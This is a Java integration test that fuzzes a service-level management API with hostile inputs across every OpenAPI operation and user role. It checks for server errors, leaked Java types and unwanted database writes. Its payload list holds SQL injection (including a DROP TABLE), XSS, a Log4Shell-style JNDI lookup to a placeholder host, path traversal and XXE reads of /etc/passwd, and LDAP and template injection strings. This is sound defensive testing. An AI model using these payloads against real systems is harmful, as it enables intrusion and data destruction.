package org.servicelevel.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.servicelevel.it.Fixtures.ADMIN;
import static org.servicelevel.it.Fixtures.JSON;
import static org.servicelevel.it.Fixtures.expect;

import jakarta.json.Json;
import jakarta.json.JsonArray;
import jakarta.json.JsonArrayBuilder;
import jakarta.json.JsonNumber;
import jakarta.json.JsonObject;
import jakarta.json.JsonObjectBuilder;
import jakarta.json.JsonString;
import jakarta.json.JsonValue;
import java.io.StringReader;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.regex.Pattern;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.engine.SourceOfRandomness;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.shrinkwrap.api.spec.EnterpriseArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * A hostile client against every operation of the application's own OpenAPI document, as each role:
 * malformed, wrongly typed, oversized, control-character and injection-shaped path and query
 * parameters, headers and bodies, and well-formed values past their edge (dates outside the supported
 * years, whole numbers written as decimals, overlong durations), generated from the document's schemas with a fixed seed
 * ({@code -Dservicelevel.it.hostile.seed} to vary it). Every answer must be below 500, every error a
 * problem document without a Java type in it, every 400 must name a field or parameter, and a refused
 * request must leave the database as it was.
 */
@ExtendWith(ArquillianExtension.class)
class HostileInputIT {

    /** The administrator's credentials for the requests that prepare a case (an ETag to send). */
    private String adminCredentials;


    /** What moved between two marks: the tables whose numbers changed, or the transaction ids on PostgreSQL. */
    @SuppressWarnings("unchecked")
    private static String describeChange(Object before, Object after) {
        return before instanceof Map<?, ?> numbers
                ? DatabaseFingerprint.changed((Map<String, String>) numbers, (Map<String, String>) after).toString()
                : "transactions " + before + " -> " + after;
    }

    private static final long SEED = Long.getLong("servicelevel.it.hostile.seed", 20261205L);
    private static final int CASES_PER_ROLE = 8;
    private static final List<String> ROLES = List.of("admin", "manager", "agent", "integration", "customer");
    private static final Pattern JAVA_TYPE = Pattern.compile("\\b(java|javax|jakarta|org\\.(glassfish|eclipse|apache))\\.[a-z]"
            + "|Exception\\b|\\bat [a-z]+\\.[a-z]+\\.");
    private static final List<String> INJECTIONS = List.of("' OR '1'='1", "\"; DROP TABLE ticket; --",
            "<script>alert(1)</script>", "${jndi:ldap://evil.invalid/x}", "../../../../etc/passwd", "%00", "%n%s%x",
            "{{7*7}}", "#{7*7}", "\\u0000", "admin'--", "1; SELECT pg_sleep(5)", "*)(uid=*))(|(uid=*",
            "<!ENTITY x SYSTEM \"file:///etc/passwd\">");
    private static final List<String> CONTROLS = List.of("\u0000", "\u0007", "line\nbreak", "tab\there", "\u001b[31m",
            "\u202eevil", "\u2028", "\u0085", "\ud800");
    private static final List<String> BAD_IDS = List.of("abc", "-1", "0", "1.5", "99999999999999999999", "%2e%2e%2f",
            "%27%20OR%201%3D1", "%E2%80%AE", "%20", "1e3", "0x10", "%0A");

    private final Random random = new Random(SEED);
    private final Arbitrary<String> unicode = Arbitraries.strings().ofMinLength(1).ofMaxLength(40);
    private final Arbitrary<String> injections = Arbitraries.of(INJECTIONS);

    @Deployment(testable = false)
    static EnterpriseArchive deployment() {
        return Deployments.ear();
    }

    /** One request of the run. */
    private record Case(String operation, String role, String what, String method, String path, String contentType,
                        byte[] body, Map<String, String> headers) {
    }

    @Test
    void everyOperationSurvivesHostileInputAndARefusedRequestWritesNothing() throws Exception {
        SourceOfRandomness.create(Long.toString(SEED));
        String customer = Fixtures.customer();
        String calendar = Fixtures.calendar();
        Fixtures.Agreement sla = Fixtures.activeSla(customer, calendar);
        long ticket = Fixtures.ticket(customer, sla);
        long outage = Fixtures.outage(customer);
        long group = Fixtures.supportGroup();
        long rule = Fixtures.selectionRule(customer, sla);
        Map<String, String> ids = new LinkedHashMap<>();
        ids.put("/api/agreements/", Long.toString(sla.id()));
        ids.put("/api/calendars/", Long.toString(Fixtures.calendarId(calendar)));
        ids.put("/api/customers/", Long.toString(Fixtures.customerId(customer)));
        ids.put("/api/outages/", Long.toString(outage));
        ids.put("/api/selection-rules/", Long.toString(rule));
        ids.put("/api/support-groups/", Long.toString(group));
        ids.put("/api/tickets/", Long.toString(ticket));
        ids.put("/api/webhooks/", Long.toString(Fixtures.webhook(customer)));
        Map<String, String> credentials = new LinkedHashMap<>();
        credentials.put("admin", ADMIN);
        for (String role : List.of("manager", "agent", "integration")) {
            credentials.put(role, Fixtures.user(role, null));
        }
        credentials.put("customer", Fixtures.user("customer", customer));
        // API tokens, not passwords: a Basic request pays a PBKDF2 hash on every call, which would make
        // this run measure password hashing rather than how the operations treat their input
        credentials.replaceAll((role, given) -> given.startsWith("Basic ") ? Api.token(given) : given);
        adminCredentials = credentials.get("admin");

        JsonObject document = Api.object(expect(200, Api.get("openapi.json", null)).body());
        JsonObject schemas = document.getJsonObject("components").getJsonObject("schemas");
        Map<String, JsonObject> operations = new TreeMap<>();
        document.getJsonObject("paths").forEach((path, item) -> item.asJsonObject().forEach((method, operation) -> {
            if (List.of("get", "post", "put", "delete").contains(method)) {
                operations.put(path + " " + method.toUpperCase(), operation.asJsonObject());
            }
        }));
        assertTrue(operations.size() >= 85, "the document lists the API: " + operations.size());

        List<String> failures = new ArrayList<>();
        int sent = 0;
        int fingerprints = 0;
        long readingNanos = 0;
        long started = System.nanoTime();
        try (DatabaseFingerprint database = new DatabaseFingerprint()) {
            for (Map.Entry<String, JsonObject> entry : operations.entrySet()) {
                String[] key = entry.getKey().split(" ");
                Object beforeReads = key[1].equals("GET") ? database.mark() : null;
                List<Map.Entry<Case, String>> reads = new ArrayList<>();
                for (String role : ROLES) {
                    for (int i = 0; i < CASES_PER_ROLE; i++) {
                        Case c = generate(entry.getKey(), key[0], key[1], entry.getValue(), schemas, ids, role);
                        long reading = System.nanoTime();
                        Object before = key[1].equals("GET") ? null : database.mark();
                        readingNanos += System.nanoTime() - reading;
                        fingerprints += before == null ? 0 : 1;
                        HttpResponse<String> answer = send(c, credentials.get(role));
                        sent++;
                        if (before == null) {
                            reads.add(Map.entry(c, role));
                        }
                        check(c, answer, failures);
                        if (before != null && answer.statusCode() >= 400) {
                            Object after = database.mark();
                            if (!after.equals(before)) {
                                String changed = describeChange(before, after);
                                // The escalation timer writes tickets on its own: the same refused request
                                // sent again tells a write of its own from one that came at the same moment.
                                Map<String, String> again = database.read();
                                HttpResponse<String> repeated = send(c, credentials.get(role));
                                List<String> changedAgain = DatabaseFingerprint.changed(again, database.read());
                                if (repeated.statusCode() < 400 || !changedAgain.isEmpty()) {
                                    failures.add(describe(c, answer) + ": refused, but wrote " + changed
                                            + (changedAgain.isEmpty() ? "" : "; sent again, wrote " + changedAgain));
                                }
                            }
                        }
                    }
                }
                if (beforeReads != null) {
                    Object after = database.mark();
                    if (!after.equals(beforeReads)) {
                        String changed = describeChange(beforeReads, after);
                        // as above: the same reads sent again tell their own write from the timer's
                        Map<String, String> again = database.read();
                        reads.forEach(read -> send(read.getKey(), credentials.get(read.getValue())));
                        List<String> changedAgain = DatabaseFingerprint.changed(again, database.read());
                        if (!changedAgain.isEmpty()) {
                            failures.add(entry.getKey() + ": reading wrote " + changed + "; read again, wrote "
                                    + changedAgain);
                        }
                    }
                }
            }
        }
        System.out.println("Hostile input: " + sent + " requests to " + operations.size() + " operations, seed " + SEED
                + ", " + fingerprints + " database readings (" + readingNanos / 1_000_000 + " ms), "
                + (System.nanoTime() - started) / 1_000_000 + " ms in all");
        assertTrue(sent >= 3000, "a few thousand requests were sent: " + sent);
        assertEquals(List.of(), failures.size() > 60 ? failures.subList(0, 60) : failures,
                failures.size() + " failures with seed " + SEED);
    }

    // ---- generation --------------------------------------------------------------------------------

    private Case generate(String operation, String template, String method, JsonObject spec, JsonObject schemas,
                          Map<String, String> ids, String role) {
        Map<String, String> query = new LinkedHashMap<>();
        Map<String, String> headers = new LinkedHashMap<>();
        Map<String, String> pathValues = new LinkedHashMap<>();
        List<JsonObject> parameters = spec.containsKey("parameters")
                ? spec.getJsonArray("parameters").getValuesAs(JsonObject.class) : List.of();
        for (JsonObject p : parameters) {
            String name = p.getString("name");
            String value = validParameter(template, name, schema(p.getJsonObject("schema"), schemas), ids);
            switch (p.getString("in")) {
                case "path" -> pathValues.put(name, value);
                case "query" -> query.put(name, value);
                case "header" -> headers.put(name, value);
                default -> { }
            }
        }
        if (headers.containsKey("If-Match")) {
            headers.put("If-Match", destructive(template, method) || random.nextBoolean() ? "\"0\""
                    : currentTag(template, pathValues));
        }
        JsonObject bodySchema = null;
        String contentType = null;
        if (spec.containsKey("requestBody")) {
            JsonObject content = spec.getJsonObject("requestBody").getJsonObject("content");
            contentType = content.keySet().iterator().next();
            bodySchema = schema(content.getJsonObject(contentType).getJsonObject("schema"), schemas);
        }
        JsonValue body = bodySchema != null && contentType.contains("json") ? sample(bodySchema, schemas, 0, "") : null;
        byte[] raw = body == null ? (contentType == null ? null : "BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n"
                .getBytes(StandardCharsets.UTF_8)) : body.toString().getBytes(StandardCharsets.UTF_8);

        String what;
        int choice = random.nextInt(body != null ? 10 : 6);
        List<String> names = new ArrayList<>();
        names.addAll(pathValues.keySet().stream().map(n -> "path:" + n).toList());
        names.addAll(query.keySet().stream().map(n -> "query:" + n).toList());
        names.addAll(headers.keySet().stream().map(n -> "header:" + n).toList());
        if (choice < 4 && !names.isEmpty()) {
            String target = names.get(random.nextInt(names.size()));
            String name = target.substring(target.indexOf(':') + 1);
            String current = target.startsWith("query:") ? query.get(name) : "";
            String hostile = target.startsWith("path:") ? BAD_IDS.get(random.nextInt(BAD_IDS.size()))
                    : edgeValue(current) != null && random.nextBoolean() ? edgeValue(current) : hostileText(choice);
            what = target + " = " + printable(hostile);
            if (target.startsWith("path:")) {
                pathValues.put(name, hostile);
            } else if (target.startsWith("query:")) {
                query.put(name, URLEncoder.encode(hostile, StandardCharsets.UTF_8));
            } else {
                headers.put(name, hostile.replaceAll("[^\\x20-\\x7e]", "?"));
            }
        } else if (body != null && choice >= 4) {
            if (choice == 9) {
                Object[] whole = wholeBody();
                what = "body: " + whole[0];
                raw = (byte[]) whole[1];
                if (whole.length > 2) {
                    contentType = (String) whole[2];
                }
            } else {
                List<String> leaves = new ArrayList<>();
                leaves(body, "", leaves);
                String leaf = leaves.isEmpty() ? "" : leaves.get(random.nextInt(leaves.size()));
                JsonValue mutated = mutate(body, leaf, choice);
                what = "body " + (leaf.isEmpty() ? "(root)" : leaf) + " " + printable(abbreviated(mutated.toString()));
                raw = mutated.toString().getBytes(StandardCharsets.UTF_8);
            }
        } else {
            what = "valid-looking request";
        }
        String path = template;
        for (Map.Entry<String, String> v : pathValues.entrySet()) {
            path = path.replace("{" + v.getKey() + "}", v.getValue());
        }
        if (!query.isEmpty()) {
            List<String> pairs = new ArrayList<>();
            query.forEach((k, v) -> pairs.add(k + "=" + (v.contains("%") ? v : URLEncoder.encode(v, StandardCharsets.UTF_8))));
            path += "?" + String.join("&", pairs);
        }
        return new Case(operation, role, what, method, path, contentType, raw, headers);
    }

    private static boolean destructive(String template, String method) {
        return method.equals("DELETE") || template.matches(".*/(activate|start-review|complete-review|terminate)")
                || template.equals("/api/ticket-statuses");
    }

    /** An API token of the user the Basic credentials name, valid for a day. */
    private String currentTag(String template, Map<String, String> pathValues) {
        String resource = template.replaceAll("/(services|priorities|metrics|penalty-bands|escalations|holidays)$", "");
        for (Map.Entry<String, String> v : pathValues.entrySet()) {
            resource = resource.replace("{" + v.getKey() + "}", v.getValue());
        }
        return Api.get(resource.substring(1), adminCredentials).headers().firstValue("ETag").orElse("\"0\"");
    }

    private String hostileText(int choice) {
        return switch (choice) {
            case 0 -> CONTROLS.get(random.nextInt(CONTROLS.size()));
            case 1 -> injections.sample();
            case 2 -> "x".repeat(2000);
            default -> unicode.sample();
        };
    }

    private Object[] wholeBody() {
        return switch (random.nextInt(8)) {
            case 0 -> new Object[] {"malformed JSON", "{\"a\":".getBytes(StandardCharsets.UTF_8)};
            case 1 -> new Object[] {"empty", new byte[0]};
            case 2 -> new Object[] {"null", "null".getBytes(StandardCharsets.UTF_8)};
            case 3 -> new Object[] {"an array", "[1,2,3]".getBytes(StandardCharsets.UTF_8)};
            case 4 -> new Object[] {"invalid UTF-8", new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xff, (byte) 0xfe, '"', '}'}};
            case 5 -> new Object[] {"1.2 MB", ("{\"a\":\"" + "x".repeat(1_200_000) + "\"}").getBytes(StandardCharsets.UTF_8)};
            case 6 -> new Object[] {"deeply nested", ("[".repeat(5000) + "]".repeat(5000)).getBytes(StandardCharsets.UTF_8)};
            default -> new Object[] {"as text/plain", "{}".getBytes(StandardCharsets.UTF_8), "text/plain"};
        };
    }

    private JsonValue mutate(JsonValue body, String leaf, int choice) {
        JsonValue replacement = switch (choice) {
            case 4 -> wrongType(at(body, leaf));
            case 5 -> Json.createValue(CONTROLS.get(random.nextInt(CONTROLS.size())));
            case 6 -> Json.createValue("x".repeat(100_000));
            case 7 -> Json.createValue(injections.sample());
            default -> random.nextBoolean() ? Json.createValue(new java.math.BigDecimal("1e400"))
                    : Json.createValue(new java.math.BigDecimal("99999999999999999999.5"));
        };
        if (choice == 8 && random.nextBoolean()) {
            return withUnknownMember(body);
        }
        return replace(body, leaf, replacement);
    }

    /**
     * A value in the right format but at or past the edge of what the field takes: dates and instants
     * outside the supported years, durations too long or negative; {@code null} for other values.
     */
    private String edgeValue(String value) {
        if (value == null) {
            return null;
        }
        if (value.matches("\\d{4}-\\d{2}-\\d{2}T.*")) {
            return List.of("2400-01-01T00:00:00Z", "2399-12-31T12:00:00Z", "1899-12-31T23:59:59Z", "0001-01-01T00:00:00Z",
                    "+10000-01-01T00:00:00Z").get(random.nextInt(5));
        }
        if (value.matches("\\d{4}-\\d{2}-\\d{2}")) {
            return List.of("2400-01-01", "2399-12-31", "1899-12-31", "0000-01-01", "+99999-01-01").get(random.nextInt(5));
        }
        if (value.matches("-?P[0-9DTHMS.]+")) {
            return List.of("PT-1H", "P99999999D", "PT2562047788015215H", "P0D").get(random.nextInt(4));
        }
        return null;
    }

    private JsonValue wrongType(JsonValue value) {
        if (value == null) {
            return Json.createValue(1);
        }
        if (value instanceof JsonString text && edgeValue(text.getString()) != null && random.nextBoolean()) {
            return Json.createValue(edgeValue(text.getString()));
        }
        if (value.getValueType() == JsonValue.ValueType.NUMBER && random.nextBoolean()) {
            return Json.createValue(new java.math.BigDecimal(List.of("2.0", "1E+2", "-1", "0", "2147483648")
                    .get(random.nextInt(5))));
        }
        return switch (value.getValueType()) {
            case STRING -> random.nextBoolean() ? Json.createValue(123) : Json.createArrayBuilder().add(1).add("x").build();
            case NUMBER -> random.nextBoolean() ? Json.createValue("abc") : JsonValue.TRUE;
            case TRUE, FALSE -> random.nextBoolean() ? Json.createValue("yes") : Json.createValue(1);
            case ARRAY -> Json.createObjectBuilder().add("a", 1).build();
            case OBJECT -> Json.createArrayBuilder().add("x").build();
            case NULL -> Json.createValue("x");
        };
    }

    private static JsonValue withUnknownMember(JsonValue body) {
        if (body instanceof JsonObject object) {
            return Json.createObjectBuilder(object).add("unknownMember", "x").build();
        }
        return body;
    }

    private static void leaves(JsonValue value, String path, List<String> out) {
        if (value instanceof JsonObject object) {
            object.forEach((k, v) -> leaves(v, path.isEmpty() ? k : path + "." + k, out));
        } else if (value instanceof JsonArray array) {
            for (int i = 0; i < array.size(); i++) {
                leaves(array.get(i), path + "[" + i + "]", out);
            }
        } else {
            out.add(path);
        }
    }

    private static JsonValue at(JsonValue value, String path) {
        if (path.isEmpty()) {
            return value;
        }
        JsonValue current = value;
        for (String part : path.split("\\.|(?=\\[)")) {
            if (part.startsWith("[")) {
                current = ((JsonArray) current).get(Integer.parseInt(part.substring(1, part.length() - 1)));
            } else {
                current = ((JsonObject) current).get(part);
            }
        }
        return current;
    }

    private static JsonValue replace(JsonValue value, String path, JsonValue replacement) {
        if (path.isEmpty()) {
            return replacement;
        }
        int dot = path.indexOf('.');
        int bracket = path.indexOf('[');
        if (path.startsWith("[")) {
            int end = path.indexOf(']');
            int index = Integer.parseInt(path.substring(1, end));
            String rest = path.substring(end + 1).replaceFirst("^\\.", "");
            JsonArrayBuilder array = Json.createArrayBuilder();
            JsonArray original = (JsonArray) value;
            for (int i = 0; i < original.size(); i++) {
                array.add(i == index ? replace(original.get(i), rest, replacement) : original.get(i));
            }
            return array.build();
        }
        int cut = dot < 0 ? bracket : bracket < 0 ? dot : Math.min(dot, bracket);
        String head = cut < 0 ? path : path.substring(0, cut);
        String rest = cut < 0 ? "" : path.substring(cut).replaceFirst("^\\.", "");
        JsonObject object = (JsonObject) value;
        JsonObjectBuilder copy = Json.createObjectBuilder(object);
        copy.add(head, replace(object.get(head), rest, replacement));
        return copy.build();
    }

    private static JsonObject schema(JsonObject schema, JsonObject schemas) {
        if (schema != null && schema.containsKey("$ref")) {
            String name = schema.getString("$ref").replace("#/components/schemas/", "");
            return schemas.getJsonObject(name);
        }
        return schema == null ? Json.createObjectBuilder().build() : schema;
    }

    /** A plausible value of the schema: what a well-meaning client would send. */
    private JsonValue sample(JsonObject schema, JsonObject schemas, int depth, String name) {
        JsonObject s = schema(schema, schemas);
        if (s.containsKey("enum")) {
            return s.getJsonArray("enum").get(0);
        }
        String type = s.getString("type", s.containsKey("properties") ? "object" : "string");
        String format = s.getString("format", "");
        return switch (type) {
            case "object" -> {
                JsonObjectBuilder object = Json.createObjectBuilder();
                if (depth < 4 && s.containsKey("properties")) {
                    s.getJsonObject("properties").forEach((property, propertySchema) ->
                            object.add(property, sample(propertySchema.asJsonObject(), schemas, depth + 1, property)));
                }
                yield object.build();
            }
            case "array" -> depth < 4 && s.containsKey("items")
                    ? Json.createArrayBuilder().add(sample(s.getJsonObject("items"), schemas, depth + 1, name)).build()
                    : JsonValue.EMPTY_JSON_ARRAY;
            case "integer" -> Json.createValue(1);
            case "number" -> Json.createValue(1);
            case "boolean" -> JsonValue.TRUE;
            default -> Json.createValue(sampleText(name, format));
        };
    }

    private static String sampleText(String name, String format) {
        return switch (format) {
            case "date" -> "2026-06-01";
            case "date-time" -> "2026-06-01T09:00:00Z";
            case "local-date-time" -> "2026-06-01T09:00:00";
            default -> switch (name) {
                case "email", "coordinatorEmail" -> "it@example.com";
                case "timeZone" -> "UTC";
                case "currency" -> "EUR";
                case "day" -> "MONDAY";
                case "from" -> "09:00";
                case "to" -> "18:00";
                case "date", "effectiveFrom", "validFrom", "validTo", "reviewDate", "lastDay", "nextReviewDate" -> "2027-06-01";
                case "response", "resolution", "max", "extra", "maxOutage" -> "PT4H";
                case "start", "end", "registeredAt", "at" -> "2026-06-01T09:00:00Z";
                case "password" -> "a-long-password";
                default -> "x";
            };
        };
    }

    private String validParameter(String template, String name, JsonObject schema, Map<String, String> ids) {
        if (name.equals("id")) {
            return ids.entrySet().stream().filter(e -> template.startsWith(e.getKey())).map(Map.Entry::getValue)
                    .findFirst().orElse("987654321");
        }
        return switch (name) {
            case "number" -> "1";
            case "metric" -> "resolution";
            case "on", "effectiveFrom" -> "2027-06-01";
            case "start" -> "2026-06-01T09:00";
            case "end" -> "2026-06-02T09:00";
            case "duration" -> "PT4H";
            case "before" -> "2000-01-01T00:00:00Z";
            case "at" -> "2027-01-01T09:00:00Z";
            case "dueBefore", "from", "to" -> "2026-06-01T09:00:00Z";
            case "page" -> "0";
            case "size", "limit" -> "20";
            case "format" -> "csv";
            case "Idempotency-Key" -> "key-" + random.nextInt(1_000_000);
            case "If-Match" -> "\"0\"";
            default -> {
                JsonValue value = sample(schema, Json.createObjectBuilder().build(), 0, name);
                yield value instanceof JsonString text ? text.getString()
                        : value instanceof JsonNumber number ? number.toString() : value.toString();
            }
        };
    }

    // ---- sending and checking ----------------------------------------------------------------------

    private static HttpResponse<String> send(Case c, String credentials) {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(Api.BASE + c.path().substring(1)))
                .header("Authorization", credentials).header("Accept", "application/json, application/problem+json");
        c.headers().forEach(request::header);
        if (c.body() != null) {
            request.header("Content-Type", c.contentType()).method(c.method(), HttpRequest.BodyPublishers.ofByteArray(c.body()));
        } else {
            request.method(c.method(), HttpRequest.BodyPublishers.noBody());
        }
        return Api.send(request.build());
    }

    private static void check(Case c, HttpResponse<String> answer, List<String> failures) {
        int status = answer.statusCode();
        if (status >= 500) {
            failures.add(describe(c, answer) + ": a server error");
            return;
        }
        if (status < 400) {
            return;
        }
        String type = answer.headers().firstValue("Content-Type").orElse("").replaceAll(";.*", "");
        if (!type.equals("application/problem+json")) {
            failures.add(describe(c, answer) + ": the error is " + type + ", not a problem document");
            return;
        }
        JsonObject problem;
        try (var reader = Json.createReader(new StringReader(answer.body()))) {
            problem = reader.readObject();
        } catch (RuntimeException e) {
            failures.add(describe(c, answer) + ": the problem document is not JSON");
            return;
        }
        if (problem.getInt("status", -1) != status || !problem.containsKey("type") || !problem.containsKey("title")) {
            failures.add(describe(c, answer) + ": the problem document lacks its status, type or title");
        }
        if (JAVA_TYPE.matcher(answer.body()).find()) {
            failures.add(describe(c, answer) + ": the answer names a Java type");
        }
        if (status == 400) {
            JsonArray errors = problem.getJsonArray("errors");
            if (errors == null || errors.isEmpty() || errors.getValuesAs(JsonObject.class).stream()
                    .anyMatch(e -> e.getString("field", "").isBlank())) {
                failures.add(describe(c, answer) + ": a 400 that names no field or parameter");
            }
        }
    }

    private static String describe(Case c, HttpResponse<String> answer) {
        return c.operation() + " as " + c.role() + " with " + c.what() + " -> " + answer.statusCode() + " "
                + printable(abbreviated(answer.body()));
    }

    private static String abbreviated(String text) {
        return text.length() > 160 ? text.substring(0, 160) + "..." : text;
    }

    private static String printable(String text) {
        StringBuilder out = new StringBuilder();
        text.codePoints().forEach(cp -> {
            if (cp < 0x20 || cp == 0x7f || Character.getType(cp) == Character.FORMAT || Character.isSurrogate((char) cp)) {
                out.append(String.format("\\u%04x", cp));
            } else {
                out.appendCodePoint(cp);
            }
        });
        return out.toString();
    }
}
